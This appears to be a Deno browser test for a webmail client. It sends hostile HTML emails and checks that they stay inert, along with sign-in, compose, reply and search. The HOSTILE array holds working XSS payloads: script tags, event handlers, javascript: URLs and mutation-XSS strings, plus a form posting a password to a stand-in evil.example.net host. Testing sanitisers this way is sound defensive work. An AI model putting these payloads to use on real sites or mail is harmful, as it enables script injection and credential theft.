/**
 * The webmail in a real browser: Debian's `chromium`, headless, driven by playwright-core
 * by role and accessible name (CONTRACT "The web side: accessible names"), against a
 * running server. Mail arrives over SMTP from Python's smtplib.
 *
 * The hostile corpus (scripts, event handlers, javascript: URLs, remote images, CSS url(),
 * forms, SVG with script, meta refresh, nested frames, mutation-XSS strings) must show as
 * inert text: no dialog opens, nothing from a message logs an error, and no request leaves
 * for any host but the server until "Show remote images" is pressed.
 *
 * Skipped, with the reason printed, when no chromium is installed (`apt-get install
 * chromium`; .ci/run installs it). Screenshots go to /tmp/webmail-*.png.
 */
import assert from "node:assert/strict";
import { type Browser, chromium, type Page } from "playwright-core";
import { run, startTestServer, type TestServer } from "./harness.ts";
import {
  CHROMIUM,
  imapFetch,
  keywordsOf,
  messageIdOf,
  openPage,
  sendMail,
  signIn,
} from "./lib/webmail_browser.ts";

const TRACKER = "http://tracker.example.net";
const EVIL = "http://evil.example.net";

/** Hostile HTML bodies; each shows a visible marker so the test knows it rendered. */
const HOSTILE: Array<{ name: string; html: string }> = [
  {
    name: "script tags",
    html: `<p>marker-script</p><script>alert("script")</script>` +
      `<script src="${EVIL}/x.js"></script><SCRIPT>parent.document.title="pwned"</SCRIPT>`,
  },
  {
    name: "event handlers",
    html: `<body onload="alert('onload')"><p>marker-handlers</p>` +
      `<img src="x" onerror="alert('onerror')"><div onmouseover="alert('over')">hover</div>` +
      `<details open ontoggle="alert('toggle')"><summary>s</summary></details></body>`,
  },
  {
    name: "javascript URLs",
    html: `<p>marker-jsurl</p><a href="javascript:alert('js-url')">click me</a>` +
      `<a href="JaVaScRiPt:alert(1)">again</a><img src="javascript:alert('img')">`,
  },
  {
    name: "remote images",
    html: `<p>marker-remote</p><img alt="pixel" src="${TRACKER}/pixel.png?id=1">` +
      `<img alt="set" srcset="${TRACKER}/set.png 1x"><table background="${TRACKER}/bg.png">` +
      `<tr><td>cell</td></tr></table>`,
  },
  {
    name: "CSS url and link",
    html: `<style>@import url(${EVIL}/import.css); body{background:url(${TRACKER}/css.png)}` +
      `</style><link rel="stylesheet" href="${EVIL}/l.css">` +
      `<div style="background-image:url('${TRACKER}/inline.png')">marker-css</div>`,
  },
  {
    name: "forms",
    html: `<p>marker-forms</p><form action="${EVIL}/steal" method="post">` +
      `<input name="password" value="secret"><button formaction="${EVIL}/b">Send</button>` +
      `</form>`,
  },
  {
    name: "SVG with script",
    html: `<p>marker-svg</p><svg onload="alert('svg')"><script>alert('svg-script')</script>` +
      `<image href="${TRACKER}/svg.png"/><a href="javascript:alert(1)"><text>t</text></a></svg>`,
  },
  {
    name: "meta refresh and base",
    html: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">` +
      `<base href="${EVIL}/"><p>marker-meta</p><a href="relative">relative link</a>`,
  },
  {
    name: "nested frames",
    html: `<p>marker-frames</p><iframe src="${EVIL}/frame"></iframe>` +
      `<iframe srcdoc="<script>alert('nested')</script>"></iframe>` +
      `<object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
  },
  {
    name: "mutation XSS",
    html: `<p>marker-mxss</p><noscript><p title="</noscript><img src=x onerror=alert('mx1')>">` +
      `</noscript><svg></p><style><a id="</style><img src=1 onerror=alert('mx2')>"></svg>` +
      `<math><mtext><table><mglyph><style><img src=x onerror=alert('mx3')></style>`,
  },
];

async function openMailbox(page: Page, name: RegExp) {
  await page.getByRole("navigation", { name: "Mailboxes" }).getByRole("link", { name }).click();
}

function messageRow(page: Page, subject: string) {
  return page.getByRole("list", { name: "Messages" }).getByRole("link", { name: subject });
}

async function openMessage(page: Page, subject: string) {
  await page.getByRole("list", { name: "Messages" }).getByRole("link", { name: subject }).click();
  await page.getByRole("heading", { name: subject }).waitFor();
}

Deno.test({
  name: "webmail in chromium: sign in, read, hostile mail stays inert",
  ignore: !CHROMIUM,
  sanitizeOps: false,
  sanitizeResources: false,
  async fn(t) {
    let ts: TestServer | null = null;
    let browser: Browser | null = null;
    try {
      ts = await startTestServer({ listeners: { http: "127.0.0.1:0" } });
      const alice = await ts.addUser("alice@example.test", "alice-password");
      await ts.addUser("bob@example.test", "bob-password");
      const imap = ts.port("imap");
      const smtp = ts.port("smtp");
      await sendMail(smtp, {
        from: "Bob Sender <bob@example.org>",
        to: "alice@example.test",
        subject: "Hello from smtplib",
        text: "Hi Alice,\n\nthis came in over SMTP. <b>not bold</b> & escaped.\n\nBob",
      });
      for (const h of HOSTILE) {
        await sendMail(smtp, {
          from: "Mallory <mallory@example.org>",
          to: "alice@example.test",
          subject: `Hostile: ${h.name}`,
          text: "see the HTML part",
          html: h.html,
        });
      }
      const host = `127.0.0.1:${ts.port("http")}`;
      browser = await chromium.launch({ executablePath: CHROMIUM!, headless: true });
      const [page, watch] = await openPage(browser, host);
      await page.setViewportSize({ width: 1280, height: 800 });
      await page.goto(`http://${host}/`);

      await t.step("a wrong password shows an alert", async () => {
        await page.getByRole("button", { name: "Sign in" }).waitFor();
        await page.screenshot({ path: "/tmp/webmail-signin.png" });
        await signIn(page, "alice@example.test", "wrong-password");
        const alert = page.getByRole("alert");
        await alert.waitFor();
        assert.match(await alert.textContent() ?? "", /wrong/i);
        // Chromium logs the refused sign-in's 401 itself; nothing else may be logged.
        assert.ok(watch.errors.every((e) => /status of 401/.test(e)), watch.errors.join());
        watch.errors.length = 0;
      });

      await t.step("the right one shows the mailboxes and the message list", async () => {
        await signIn(page, "alice@example.test", "alice-password");
        const nav = page.getByRole("navigation", { name: "Mailboxes" });
        await nav.getByRole("link", { name: /^Inbox/ }).waitFor();
        const inbox = await nav.getByRole("link", { name: /^Inbox/ }).textContent();
        assert.match(inbox ?? "", /^Inbox\s*11$/, "name first, then the unread count");
        const row = page.getByRole("list", { name: "Messages" }).getByRole("listitem")
          .filter({ hasText: "Hello from smtplib" });
        await row.waitFor();
        assert.match(await row.textContent() ?? "", /Bob Sender/);
        assert.equal(
          await page.getByRole("list", { name: "Messages" }).getByRole("listitem").count(),
          1 + HOSTILE.length,
        );
        await page.screenshot({ path: "/tmp/webmail-inbox.png" });
      });

      await t.step("a plain-text message opens escaped in the sandboxed frame", async () => {
        await openMessage(page, "Hello from smtplib");
        const frameEl = page.getByTitle("Message body");
        const sandbox = (await frameEl.getAttribute("sandbox")) ?? "missing";
        assert.doesNotMatch(sandbox, /allow-scripts|allow-same-origin/);
        const body = frameEl.contentFrame();
        await body.getByText("this came in over SMTP").waitFor();
        assert.match(await body.locator("pre").textContent() ?? "", /<b>not bold<\/b> & escaped/);
        assert.equal(await body.locator("b").count(), 0);
        await page.screenshot({ path: "/tmp/webmail-message.png" });
      });

      await t.step("the reload keeps the session (sessionStorage)", async () => {
        await page.reload();
        await page.getByRole("heading", { name: "Hello from smtplib" }).waitFor();
      });

      for (const h of HOSTILE) {
        await t.step(`hostile: ${h.name}`, async () => {
          await openMessage(page, `Hostile: ${h.name}`);
          const body = page.getByTitle("Message body").contentFrame();
          await body.getByText(`marker-`).first().waitFor();
          const bad = body.locator(
            "script, form, input, iframe, object, embed, svg, meta[http-equiv='refresh' i], base, " +
              "link, " +
              "[onerror], [onload], [onclick], [onmouseover], [ontoggle], [href^='javascript' i]",
          );
          assert.equal(await bad.count(), 0, "nothing active survives sanitising");
          assert.equal(await page.title(), "denomail");
        });
      }
      await page.waitForTimeout(500); // a late meta refresh or timer would show now
      await page.screenshot({ path: "/tmp/webmail-hostile.png" });

      await t.step("no dialog, no console error, no request to another host", () => {
        assert.deepEqual(watch.dialogs, []);
        assert.deepEqual(watch.errors, []);
        assert.deepEqual(watch.outside, []);
        for (const r of watch.refused) {
          assert.match(r, /^(Executing inline event handler|Setting the document's base URI)/);
        }
      });

      await t.step("remote images load only after Show remote images", async () => {
        await openMessage(page, "Hostile: remote images");
        await page.waitForTimeout(300);
        assert.equal(watch.outside.length, 0, watch.outside.join(" "));
        const pixel = page.waitForRequest((r) => r.url().startsWith(`${TRACKER}/pixel.png`));
        await page.getByRole("button", { name: "Show remote images" }).click();
        await pixel;
        const body = page.getByTitle("Message body").contentFrame();
        assert.equal(await body.getByRole("img", { name: "pixel" }).count(), 1);
        assert.ok(watch.outside.every((u) => u.startsWith(`${TRACKER}/`)), watch.outside.join());
        assert.deepEqual(watch.dialogs, []);
      });

      await t.step("a phone-sized screen stacks the panes", async () => {
        await page.setViewportSize({ width: 390, height: 844 });
        // An open message takes the list's place; the Inbox link leads back to the list.
        assert.equal(await page.getByRole("list", { name: "Messages" }).isVisible(), false);
        await page.getByRole("navigation", { name: "Mailboxes" })
          .getByRole("link", { name: /^Inbox/ }).click();
        await page.getByRole("list", { name: "Messages" }).waitFor();
        await page.screenshot({ path: "/tmp/webmail-phone.png", fullPage: false });
        await openMessage(page, "Hello from smtplib");
        await page.screenshot({ path: "/tmp/webmail-phone-message.png", fullPage: false });
        await page.setViewportSize({ width: 1280, height: 800 });
      });

      await t.step("opening a message marks it read ($seen)", async () => {
        // Every Inbox message has been opened by now: no unread count remains.
        await page.reload();
        const inbox = page.getByRole("navigation", { name: "Mailboxes" })
          .getByRole("link", { name: /^Inbox/ });
        await page.waitForFunction(() =>
          [...document.querySelectorAll("nav a")].some((a) => a.textContent === "Inbox")
        );
        assert.equal(await inbox.textContent(), "Inbox");
        assert.equal((await keywordsOf(page, "Hello from smtplib")).$seen, true);
      });

      await t.step("Delete moves the message to Trash", async () => {
        await openMessage(page, "Hostile: forms");
        await page.getByRole("button", { name: "Delete" }).click();
        await messageRow(page, "Hostile: forms").waitFor({ state: "detached" });
        await openMailbox(page, /^Trash/);
        await messageRow(page, "Hostile: forms").waitFor();
        await openMailbox(page, /^Inbox/);
      });

      await t.step("Archive moves it to Archive (created when missing)", async () => {
        await openMessage(page, "Hostile: SVG with script");
        await page.getByRole("button", { name: "Archive" }).click();
        await messageRow(page, "Hostile: SVG with script").waitFor({ state: "detached" });
        await openMailbox(page, /^Archive/);
        await messageRow(page, "Hostile: SVG with script").waitFor();
        await openMailbox(page, /^Inbox/);
      });

      await t.step("Mark as junk and Not junk move and set $junk / $notjunk", async () => {
        await openMessage(page, "Hostile: nested frames");
        await page.getByRole("button", { name: "Mark as junk" }).click();
        await messageRow(page, "Hostile: nested frames").waitFor({ state: "detached" });
        assert.equal((await keywordsOf(page, "Hostile: nested frames")).$junk, true);
        await openMailbox(page, /^Junk/);
        await openMessage(page, "Hostile: nested frames");
        await page.getByRole("button", { name: "Not junk" }).click();
        await messageRow(page, "Hostile: nested frames").waitFor({ state: "detached" });
        const kw = await keywordsOf(page, "Hostile: nested frames");
        assert.equal(kw.$notjunk, true);
        assert.equal(kw.$junk, undefined);
        await openMailbox(page, /^Inbox/);
        await messageRow(page, "Hostile: nested frames").waitFor();
      });

      await t.step(
        "Compose and Send: the recipient reads it over IMAP, a copy is in Sent",
        async () => {
          await page.getByRole("button", { name: "Compose" }).click();
          await page.getByRole("textbox", { name: "To" }).fill("Bob Local <bob@example.test>");
          await page.getByRole("textbox", { name: "Subject" }).fill("Grüße from the webmail");
          await page.getByRole("textbox", { name: "Message" }).fill(
            "Hello Bob,\n\nthis was written in the browser: ä ö ü €.\n\nAlice",
          );
          await page.screenshot({ path: "/tmp/webmail2-compose.png" });
          await page.getByRole("button", { name: "Send" }).click();
          await page.getByRole("textbox", { name: "To" }).waitFor({ state: "detached" });
          const raw = await imapFetch(imap, "bob@example.test", "bob-password", "from the webmail");
          assert.match(raw, /^Subject: =\?(UTF-8|utf-8)\?/m, "encoded subject");
          assert.match(raw, /^From: .*alice@example\.test/m);
          assert.match(raw, /^To: .*<bob@example\.test>/m);
          const py = await run("python3", [
            "-c",
            `
import email, email.policy, sys
m = email.message_from_bytes(sys.stdin.buffer.read(), policy=email.policy.default)
sys.stdout.write(m["subject"] + "\\n" + m.get_content())`,
          ], { stdin: raw });
          assert.equal(
            py.stdout.replace(/\r\n/g, "\n").trimEnd(),
            "Grüße from the webmail\nHello Bob,\n\nthis was written in the browser: ä ö ü €.\n\nAlice",
          );
          await openMailbox(page, /^Sent/);
          await messageRow(page, "Grüße from the webmail").waitFor();
          const kw = await keywordsOf(page, "Grüße from the webmail");
          assert.equal(kw.$draft, undefined);
          await openMailbox(page, /^Inbox/);
        },
      );

      await t.step("Reply, Reply all and Forward fill the form; a reply arrives", async () => {
        const parent = (await messageIdOf(page, "Hello from smtplib")).messageId[0];
        await openMessage(page, "Hello from smtplib");
        await page.getByRole("button", { name: "Forward" }).click();
        assert.equal(
          await page.getByRole("textbox", { name: "Subject" }).inputValue(),
          "Fwd: Hello from smtplib",
        );
        assert.match(
          await page.getByRole("textbox", { name: "Message" }).inputValue(),
          /Forwarded message[\s\S]*this came in over SMTP/,
        );
        await page.getByRole("button", { name: "Discard" }).click();
        await page.getByRole("button", { name: "Reply all" }).click();
        assert.equal(await page.getByRole("textbox", { name: "Cc" }).inputValue(), "");
        await page.getByRole("button", { name: "Discard" }).click();
        await page.getByRole("button", { name: "Reply", exact: true }).click();
        const to = page.getByRole("textbox", { name: "To" });
        assert.equal(await to.inputValue(), "Bob Sender <bob@example.org>");
        assert.equal(
          await page.getByRole("textbox", { name: "Subject" }).inputValue(),
          "Re: Hello from smtplib",
        );
        assert.match(
          await page.getByRole("textbox", { name: "Message" }).inputValue(),
          /^> this came in over SMTP/m,
        );
        await to.fill("bob@example.test");
        await page.getByRole("button", { name: "Send" }).click();
        await to.waitFor({ state: "detached" });
        const raw = await imapFetch(imap, "bob@example.test", "bob-password", "Re: Hello from");
        assert.match(raw, /^Subject: Re: Hello from smtplib\r?$/m);
        assert.ok(raw.includes(`\r\nIn-Reply-To: <${parent}>\r\n`), "threaded");
        assert.ok(raw.includes(`\r\nReferences: <${parent}>\r\n`), "threaded");
        assert.match(raw, /^> this came in over SMTP\. <b>not bold<\/b> & escaped\.\r?$/m);
      });

      await t.step("Search mail finds messages by text (Enter)", async () => {
        const box = page.getByRole("searchbox", { name: "Search mail" });
        await box.fill("mutation");
        await box.press("Enter");
        const list = page.getByRole("list", { name: "Messages" });
        await list.getByRole("link", { name: /Hostile: mutation XSS/ }).waitFor();
        await page.waitForFunction(() => document.querySelectorAll("ul.messages li").length === 1);
        await openMailbox(page, /^Inbox/);
        await messageRow(page, "Hello from smtplib").waitFor();
      });

      await t.step("a token revoked elsewhere leads back to the sign-in form", async () => {
        for (const tok of await ts!.store.listApiTokens(alice.id)) {
          await ts!.store.revokeApiToken(tok.id);
        }
        await page.getByRole("navigation", { name: "Mailboxes" }).getByRole("link", {
          name: /^Trash/,
        }).click();
        await page.getByRole("button", { name: "Sign in" }).waitFor();
        await signIn(page, "alice@example.test", "alice-password");
        await page.getByRole("navigation", { name: "Mailboxes" }).waitFor();
      });

      await t.step("Sign out revokes the token and shows the sign-in form", async () => {
        await page.getByRole("button", { name: "Sign out" }).click();
        await page.getByRole("button", { name: "Sign in" }).waitFor();
        assert.equal((await ts!.store.listApiTokens(alice.id)).length, 0);
      });
    } finally {
      await browser?.close();
      await ts?.stop();
    }
  },
});
